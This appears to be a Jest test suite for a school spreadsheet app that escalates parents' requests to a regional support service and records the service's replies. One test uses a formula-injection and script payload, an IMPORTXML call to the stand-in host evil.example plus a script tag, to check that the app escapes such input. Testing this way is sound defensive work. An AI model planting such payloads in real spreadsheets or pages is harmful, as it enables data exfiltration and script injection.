// Escalation to the regional support service (regulation cl. 8, 9, 9.4) on the embedded runtime, over a workbook
// built by the real setup: the consultant passes a request on from the sidebar, the cl. 9.4 packet goes to the
// support's e-mail, the requester is told, the support's receipt and answer come back by mail (ticket number,
// answer draft), the consultant records the outcome, and the wait is counted in support hours (9:00–18:00
// every day). Times are Yekaterinburg's (UTC+5).
import path from 'node:path';
import type { Runtime } from '../../emulator/index';
import { person } from '../../emulator/people';
import type { MailRecord } from '../../emulator/services/mail';
import { readSheetValues } from '../../emulator/services/spreadsheet/index';
import type { EscalationResult } from '../../src/app/escalate-request';
import type { SupportOutcomeResult } from '../../src/app/record-support-outcome';
import { ru as esc } from '../../src/locale/escalation';
import { ru } from '../../src/locale/ru';
import { setSetting } from '../helpers/settings';
import {
  bookkeeping,
  CONSULTANT,
  DEPUTY,
  deliver,
  ekb,
  H,
  journal,
  keysOf,
  newRequest,
  noteOf,
  OWNER,
  PARENT,
  poll,
  request,
  records,
  runQueue,
  SUPPORT,
  STRANGER,
  sentTo,
  sentWithKey,
  setStatus,
  TEACHER,
  workbook,
} from './escalation.fixture';

const ENTRY = path.join(__dirname, 'escalation.entry.ts');
const S = ru.choices.status;

function escalate(rt: Runtime, who: string, input: unknown): EscalationResult {
  const result = person(rt, who).call('escalateRequest', input);
  if (!result.ok) throw result.error;
  return result.value as EscalationResult;
}

function outcome(rt: Runtime, who: string, input: unknown): SupportOutcomeResult {
  const result = person(rt, who).call('recordSupportOutcome', input);
  if (!result.ok) throw result.error;
  return result.value as SupportOutcomeResult;
}

const time = (v: unknown): number => (v instanceof Date ? v.getTime() : Number.NaN);
/** A moment the script took (`new Date()` a few modelled calls after the clock was set) is within that minute. */
const within = (v: unknown, at: string): void => {
  expect(time(v) - ekb(at)).toBeGreaterThanOrEqual(0);
  expect(time(v) - ekb(at)).toBeLessThan(60_000);
};
const NO_ROLE = ru.access.noRole.split('{roles}')[0];
const PACKET = {
  tried: 'Сбросили пароль, проверили привязку ребёнка к организации в личном кабинете.',
  documents: 'Руководство пользователя СЭДиЖ для родителей, раздел 2 «Вход через Госуслуги».',
  link: 'https://edu.permkrai.ru/forum/topic/123',
};

describe('a request the school cannot answer goes to the support service and comes back', () => {
  let rt: Runtime;
  let id: string;
  let result: EscalationResult;
  let packet: MailRecord;

  beforeAll(() => {
    rt = workbook(ENTRY);
    id = newRequest(rt);
    rt.clock.set(ekb('2026-09-01 17:00'));
    result = escalate(rt, CONSULTANT, { requestId: id, ...PACKET });
    runQueue(rt);
    packet = sentWithKey(rt, /\|support\|packet-/);
  });

  test('the consultant is told where the packet goes; the status changes and the support clock starts now', () => {
    expect(result).toMatchObject({ ok: true, requestId: id });
    expect(result.ok && result.message).toContain(`пакет по п. 9.4 уйдёт на ${SUPPORT}`);
    const row = request(rt, id);
    expect(row.status).toBe(S.escalated);
    // The escalation notice is the first message a person sent the requester (R5.2).
    within(row.firstResponseAt, '2026-09-01 17:00');
    const book = bookkeeping(rt, id);
    expect(book.escalations).toBe(1);
    expect(time(book.lastEscalatedAt)).toBe(ekb('2026-09-01 17:00'));
    expect(time(book.pausedSince)).toBe(ekb('2026-09-01 17:00'));
  });

  test('the cl. 9.4 packet: who, what, when, what was tried, the documents studied and the link', () => {
    expect(packet.to).toEqual([SUPPORT]);
    expect(packet.subject).toBe(`Нештатная ситуация в СЭДиЖ: МБОУ «Северокоммунарская СОШ», обращение ${id}`);
    for (const line of [
      'ФИО: Анна Петрова',
      `Эл. почта: ${PARENT}`,
      `Номер обращения в школе: ${id}`,
      'Поступило в школу: 01.09.2026 09:01',
      'Передано в Службу поддержки: 01.09.2026 17:00',
      '«нет доступа к организации»',
      PACKET.tried,
      PACKET.documents,
      PACKET.link,
      'Технический консультант: Иванова Ирина Сергеевна',
      `Эл. почта консультанта: ${CONSULTANT}`,
    ]) {
      expect(packet.body).toContain(line);
    }
    const [key] = keysOf(packet.body);
    expect(key).toMatch(new RegExp(`^${id}\\|support\\|packet-\\d+$`));
    within(new Date(Number(key.split('-').pop())), '2026-09-01 17:00');
  });

  test('the requester is told in their own thread, with the support phone, VK group and hours', () => {
    const [ack, notice] = sentTo(rt, PARENT);
    expect(keysOf(notice.body)[0]).toMatch(new RegExp(`^${id}\\|notice\\|escalationNotice-`));
    expect(notice.threadId).toBe(ack.threadId);
    expect(notice.body).toContain('8 800 300 4444');
    expect(notice.body).toContain('https://vk.com/sedizh_perm');
    expect(notice.body).toContain('с 09:00 до 18:00');
    expect(notice.body).not.toContain('Госуслуги');
  });

  test('the journal: the consultant’s status change and the packet, without personal data', () => {
    const rows = journal(rt, id);
    expect(rows).toContainEqual(expect.objectContaining({ action: esc.audit.packetSent, actor: CONSULTANT }));
    expect(rows).toContainEqual(
      expect.objectContaining({ columnKey: 'status', before: S.new, after: S.escalated, actor: CONSULTANT }),
    );
    expect(JSON.stringify(rows)).not.toContain(PARENT);
  });

  test('the support’s automatic receipt in the packet’s thread: the ticket number is recorded, no draft', () => {
    rt.clock.set(ekb('2026-09-01 17:30'));
    deliver(rt, {
      from: `Служба поддержки СЭДиЖ <robot@sedizh.permkrai.ru>`,
      subject: `Автоматический ответ: заявка № 12345 зарегистрирована (Re: ${packet.subject})`,
      body: 'Ваше обращение зарегистрировано. Ответ будет дан в рабочее время службы.',
      inReplyToMessageId: packet.messageId,
    });
    const report = poll(rt);
    expect(report).toMatchObject({ registered: [], replies: [id], ignored: 0 });
    const row = request(rt, id);
    expect(row.supportTicket).toBe('12345');
    expect(row.answer).toBe('');
    expect(row.status).toBe(S.escalated);
    expect(journal(rt, id)).toContainEqual(
      expect.objectContaining({ action: esc.audit.ticket, columnKey: 'supportTicket', after: '12345' }),
    );
    runQueue(rt);
    const notice = sentWithKey(rt, new RegExp(`^${id}\\|assignee\\|reply-`));
    expect(notice.to).toEqual([CONSULTANT]);
    expect(notice.body).toContain('Номер заявки в Службе поддержки: 12345');
    expect(notice.body).toContain(esc.supportNotice.automated);
  });

  test('the support’s answer becomes the draft in «Ответ»; the status stays; the notice does not repeat it', () => {
    rt.clock.set(ekb('2026-09-02 09:39')); // the message arrives a minute later
    deliver(rt, {
      from: `Служба поддержки СЭДиЖ <${SUPPORT}>`,
      subject: `Re: [Заявка № 12345] ${packet.subject}`,
      body: [
        'Здравствуйте! Привязка ученика к организации восстановлена, войдите заново через Госуслуги.',
        '',
        `1 сент. 2026 г., в 17:00, ${OWNER} написал:`,
        '> Технический консультант передаёт...',
      ].join('\n'),
      inReplyToMessageId: packet.messageId,
    });
    expect(poll(rt).replies).toEqual([id]);
    const row = request(rt, id);
    expect(row.answer).toBe(
      'Здравствуйте! Привязка ученика к организации восстановлена, войдите заново через Госуслуги.',
    );
    expect(row.status).toBe(S.escalated);
    expect(noteOf(rt, id, 'answer')).toContain('Черновик ответа (Служба поддержки 12345, 02.09.2026 09:40)');
    runQueue(rt);
    const notices = sentTo(rt, CONSULTANT).filter((m) => keysOf(m.body).some((k) => k.includes('|assignee|reply-')));
    expect(notices).toHaveLength(2);
    expect(notices[1].body).toContain(esc.supportNotice.inCell);
    expect(notices[1].body).not.toContain('Привязка ученика');
  });

  test('the consultant records the answer: back in work, the wait counted in support hours (17–18, 9–10)', () => {
    rt.clock.set(ekb('2026-09-02 10:00'));
    const recorded = outcome(rt, CONSULTANT, { requestId: id, outcome: 'answered' });
    expect(recorded).toMatchObject({ ok: true });
    expect(recorded.ok && recorded.message).toContain('снова в работе');
    expect(request(rt, id).status).toBe(S.inProgress);
    runQueue(rt);
    const book = bookkeeping(rt, id);
    expect(book.supportWaitMs).toBe(2 * H);
    expect(book.pausedSince).toBe('');
    expect(journal(rt, id)).toContainEqual(
      expect.objectContaining({ action: esc.audit.supportAnswered, actor: CONSULTANT }),
    );
  });

  test('the consultant answers the requester with the draft: «Дан ответ» sends it', () => {
    setStatus(rt, CONSULTANT, id, 'answered');
    runQueue(rt);
    const answer = sentWithKey(rt, new RegExp(`^${id}\\|answer\\|`));
    expect(answer.to.join()).toContain(PARENT);
    expect(answer.body).toContain('Привязка ученика к организации восстановлена');
  });
});

describe('the support rejects the packet; the consultant completes it and escalates again', () => {
  let rt: Runtime;
  let id: string;

  beforeAll(() => {
    rt = workbook(ENTRY);
    id = newRequest(rt);
    rt.clock.set(ekb('2026-09-01 11:00'));
    expect(escalate(rt, CONSULTANT, { requestId: id, tried: 'Перезагрузили браузер.' }).ok).toBe(true);
    runQueue(rt);
  });

  test('a rejection needs a cl. 9.4.3 reason, and an outcome needs the request to be with the support', () => {
    expect(outcome(rt, CONSULTANT, { requestId: id, outcome: 'rejected' })).toEqual({
      ok: false,
      message: esc.result.reasonRequired,
    });
    expect(outcome(rt, CONSULTANT, { requestId: id, outcome: 'maybe' })).toEqual({
      ok: false,
      message: esc.result.outcomeBad,
    });
    const other = newRequest(rt, { from: 'ivan@yandex.ru', subject: 'Вопрос про оценки' });
    expect(outcome(rt, CONSULTANT, { requestId: other, outcome: 'answered' })).toEqual({
      ok: false,
      message: `Обращение ${other} сейчас «${S.new}», а не «Передано в Службу поддержки»: ответ Службы записать нельзя.`,
    });
  });

  test('rejected (cl. 9.4.3): back in work, the reason in «Заметки», the ticket recorded, not the school’s own rejection', () => {
    rt.clock.set(ekb('2026-09-01 14:00'));
    const recorded = outcome(rt, DEPUTY, {
      requestId: id,
      outcome: 'rejected',
      reason: ru.choices.rejectReason.insufficientInfo,
      ticket: 'SD-2026-0042',
    });
    expect(recorded).toMatchObject({ ok: true });
    const row = request(rt, id);
    expect(row.status).toBe(S.inProgress);
    expect(row.supportTicket).toBe('SD-2026-0042');
    expect(row.rejectReason).toBe('');
    expect(row.notes).toBe(
      `01.09.2026 14:00: Служба поддержки отклонила обращение (№ SD-2026-0042): ${ru.choices.rejectReason.insufficientInfo} (п. 9.4.3).`,
    );
    runQueue(rt);
    expect(journal(rt, id)).toContainEqual(
      expect.objectContaining({ action: esc.audit.supportRejected, after: 'insufficientInfo', actor: DEPUTY }),
    );
    expect(bookkeeping(rt, id).supportWaitMs).toBe(3 * H);
  });

  test('escalated again: a second packet, marked as repeated, naming the earlier ticket; the counter is 2', () => {
    rt.clock.set(ekb('2026-09-01 15:00'));
    const again = escalate(rt, CONSULTANT, { requestId: id, ...PACKET });
    expect(again.ok).toBe(true);
    runQueue(rt);
    const packets = sentTo(rt, SUPPORT);
    expect(packets).toHaveLength(2);
    expect(packets[1].subject.startsWith('Повторно: ')).toBe(true);
    expect(packets[1].body).toContain('ранее — заявка № SD-2026-0042');
    expect(packets[1].body).toContain(PACKET.documents);
    expect(bookkeeping(rt, id).escalations).toBe(2);
    // Escalating what is already escalated sends nothing again.
    expect(escalate(rt, CONSULTANT, { requestId: id, ...PACKET })).toMatchObject({
      ok: true,
      message: `Обращение ${id} уже передано в Службу поддержки: повторно пакет не отправлен.`,
    });
    runQueue(rt);
    expect(sentTo(rt, SUPPORT)).toHaveLength(2);
  });
});

describe('the school has not filled in the support e-mail', () => {
  let rt: Runtime;
  let id: string;

  beforeAll(() => {
    rt = workbook(ENTRY, '2026-09-01T09:00:00+05:00', '');
    id = newRequest(rt);
  });

  test('nothing is sent, the status does not change, and the consultant is told what to do', () => {
    const result = escalate(rt, CONSULTANT, { requestId: id, ...PACKET });
    expect(result).toEqual({ ok: false, message: esc.result.noSupportEmail.replace('{phone}', '8 800 300 4444') });
    runQueue(rt);
    expect(request(rt, id).status).toBe(S.new);
    expect(bookkeeping(rt, id)).toMatchObject({ escalations: '', lastEscalatedAt: '', pausedSince: '' });
    expect(
      records(rt, 'mailQueue').filter((m) => m.kind === 'support' || String(m.key).includes('escalation')),
    ).toEqual([]);
  });

  test('a hand edit to «Передано в Службу поддержки» is undone, with the reason as the cell’s note', () => {
    const res = person(rt, CONSULTANT).call('escalateFromSheet', id);
    expect(res.value).toMatchObject({ ok: false });
    expect(request(rt, id).status).toBe(S.new);
    expect(noteOf(rt, id, 'status')).toContain('Статус возвращён.');
    expect(noteOf(rt, id, 'status')).toContain('не заполнен адрес эл. почты Службы поддержки');
  });

  test('passed on by phone (cl. 8): with the ticket given, the status changes, no packet, the requester is told', () => {
    const result = escalate(rt, CONSULTANT, { requestId: id, tried: 'Позвонили в Службу поддержки.', ticket: '55501' });
    expect(result).toMatchObject({ ok: true });
    expect(result.ok && result.message).toContain('заявка № 55501');
    runQueue(rt);
    expect(request(rt, id)).toMatchObject({ status: S.escalated, supportTicket: '55501' });
    expect(records(rt, 'mailQueue').filter((m) => m.kind === 'support')).toEqual([]);
    expect(sentTo(rt, PARENT).map((m) => keysOf(m.body)[0])).toContainEqual(
      expect.stringMatching(/\|notice\|escalationNotice-/),
    );
    expect(journal(rt, id)).toContainEqual(expect.objectContaining({ action: esc.audit.escalatedByPhone }));
  });

  test('an address that is not an e-mail is refused the same way', () => {
    setSetting(rt, 'support.email', 'служба поддержки');
    const other = newRequest(rt, { from: 'ivan@yandex.ru', subject: 'Вопрос про оценки' });
    const result = escalate(rt, CONSULTANT, { requestId: other, ...PACKET });
    expect(result).toMatchObject({ ok: false });
    expect(result.message).toContain('«служба поддержки»');
    expect(request(rt, other).status).toBe(S.new);
  });
});

describe('who may escalate, and bad input', () => {
  let rt: Runtime;
  let id: string;

  beforeAll(() => {
    rt = workbook(ENTRY);
    id = newRequest(rt);
  });

  test('a teacher (no role in the circle) and a stranger are refused before anything is read; nothing changes', () => {
    for (const fn of ['escalateRequest', 'recordSupportOutcome']) {
      const teacher = person(rt, TEACHER).call(fn, { requestId: id, outcome: 'answered', ...PACKET });
      expect(teacher.ok).toBe(false);
      expect(String(teacher.error)).toContain(NO_ROLE);
      // Someone the spreadsheet is not shared with cannot even open it.
      expect(person(rt, STRANGER).call(fn, { requestId: id, outcome: 'answered', ...PACKET }).ok).toBe(false);
    }
    runQueue(rt);
    expect(request(rt, id).status).toBe(S.new);
    expect(sentTo(rt, SUPPORT)).toEqual([]);
  });

  test('a teacher setting the status by hand: undone, with the core’s reason; nothing sent', () => {
    const res = person(rt, TEACHER).call('escalateFromSheet', id);
    expect(res.value).toMatchObject({ ok: false });
    expect((res.value as { message: string }).message).toContain('может только');
    expect(request(rt, id).status).toBe(S.new);
    expect(noteOf(rt, id, 'status')).toContain('Статус возвращён.');
    runQueue(rt);
    expect(sentTo(rt, SUPPORT)).toEqual([]);
  });

  test('malformed input, over-long fields, an unknown request, nothing tried: clear messages, nothing sent', () => {
    expect(escalate(rt, CONSULTANT, 'ОБ-2026-00001')).toEqual({ ok: false, message: esc.result.badInput });
    expect(escalate(rt, CONSULTANT, { requestId: id, tried: ['x'] })).toEqual({
      ok: false,
      message: esc.result.badInput,
    });
    expect(escalate(rt, CONSULTANT, { requestId: id, tried: 'x'.repeat(4001) })).toEqual({
      ok: false,
      message: `Поле «${esc.packet.triedHeading}» длиннее 4000 символов. Сократите его — ничего не отправлено.`,
    });
    expect(escalate(rt, CONSULTANT, { requestId: 'ОБ-2026-09999', ...PACKET })).toEqual({
      ok: false,
      message: 'Обращение ОБ-2026-09999 не найдено в листе «Обращения».',
    });
    expect(escalate(rt, CONSULTANT, { requestId: id, link: 'https://x.ru' })).toEqual({
      ok: false,
      message: esc.result.nothingTried,
    });
    runQueue(rt);
    expect(sentTo(rt, SUPPORT)).toEqual([]);
    expect(request(rt, id).status).toBe(S.new);
  });

  test('hostile text in the packet is escaped in HTML and stored nowhere as a formula', () => {
    const res = escalate(rt, CONSULTANT, {
      requestId: id,
      tried: '=IMPORTXML("http://evil.example") <script>x</script>',
    });
    expect(res.ok).toBe(true);
    runQueue(rt);
    const [sent] = sentTo(rt, SUPPORT);
    expect(sent.htmlBody).toContain('=IMPORTXML(&quot;http://evil.example&quot;) &lt;script&gt;');
    expect(sent.htmlBody).not.toContain('<script>');
  });

  test('from the sheet by the consultant: escalated, the packet says what is missing, the message warns', () => {
    const other = newRequest(rt, { from: 'ivan@yandex.ru', subject: 'Вопрос про оценки' });
    const res = person(rt, CONSULTANT).call('escalateFromSheet', other);
    expect(res.value).toMatchObject({ ok: true });
    expect((res.value as { message: string }).message).toContain(esc.result.incomplete);
    runQueue(rt);
    const packet = sentTo(rt, SUPPORT).find((m) => m.subject.includes(other)) as MailRecord;
    expect(packet.body).toContain(`${esc.packet.triedHeading}\n\nне указано`);
    expect(request(rt, other).status).toBe(S.escalated);
    expect(readSheetValues(rt, ru.sheets.requests).flat()).not.toContain('=IMPORTXML');
  });
});

test('an automatic message from the support about nothing the log knows is no request', () => {
  const rt = workbook(ENTRY);
  deliver(rt, {
    from: `Служба поддержки <robot@sedizh.permkrai.ru>`,
    subject: 'Автоматический ответ: плановые работы 5 сентября',
    body: 'Уведомляем о плановых работах.',
  });
  const report = poll(rt);
  expect(report).toMatchObject({ registered: [], ignored: 1 });
  expect(records(rt, 'requests')).toEqual([]);
  expect(sentTo(rt, 'robot@')).toEqual([]);
});
